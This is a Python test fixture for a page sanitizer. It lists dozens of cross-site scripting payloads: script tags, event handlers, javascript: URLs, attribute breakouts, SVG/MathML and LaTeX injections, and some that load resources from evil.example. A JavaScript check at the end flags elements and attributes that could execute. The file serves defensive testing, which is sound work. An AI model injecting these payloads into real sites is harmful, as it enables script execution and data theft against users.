"""Texts that a page must show and never run: markup, LaTeX that becomes markup, handlers, addresses, templates, styles.

Each would set `window.ran` if any of it ran, or ask for a page of elsewhere.
"""

_RUN = "window.ran=1"
_MARKUP = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{_RUN}></script>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<form action='javascript:{_RUN}'><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{_RUN}'>x</maction></math>",
    f"<math><mtext></p><img src=x onerror={_RUN}></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"` onmouseover=`{_RUN}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"{{{{ ''.__class__ }}}}{{% print(1) %}}<b onclick={_RUN}>",
    f"${{{_RUN}}}",
]
LATEX = [
    rf"\text{{<script>{_RUN}</script>}}",
    rf"\text{{</math><img src=x onerror={_RUN}>}}",
    rf"\mathrm{{&lt;img src=x onerror={_RUN}&gt;}}",
    rf"\href{{javascript:{_RUN}}}{{x}}",
    rf'\textcolor{{"><script>{_RUN}</script>}}{{x}}',
    rf'\color{{red" onclick="{_RUN}}}x',
    rf"\class{{x' onclick='{_RUN}}}{{x}}",
    rf'\style{{x:url("javascript:{_RUN}")}}{{x}}',
    rf"\operatorname{{<svg onload={_RUN}>}}",
    rf'\begin{{array}}{{c" onclick="{_RUN}}}x\end{{array}}',
]
HOSTILE = [*_MARKUP, *LATEX]

# Elements that could act, attributes that are scripts, and addresses that are not inside the page.
ACTING = """() => {
  const acting = 'iframe, object, embed, base, meta[http-equiv=refresh], form[action]';
  const bad = ({ name, value }) => name.startsWith('on') ||
    /href|src|action/.test(name) && /^\\s*(javascript:|data:.*script)/i.test(value);
  const handled = [...document.querySelectorAll('*')].filter(node => [...node.attributes].some(bad));
  return [...document.querySelectorAll(acting), ...handled].map(node => node.outerHTML.slice(0, 120));
}"""
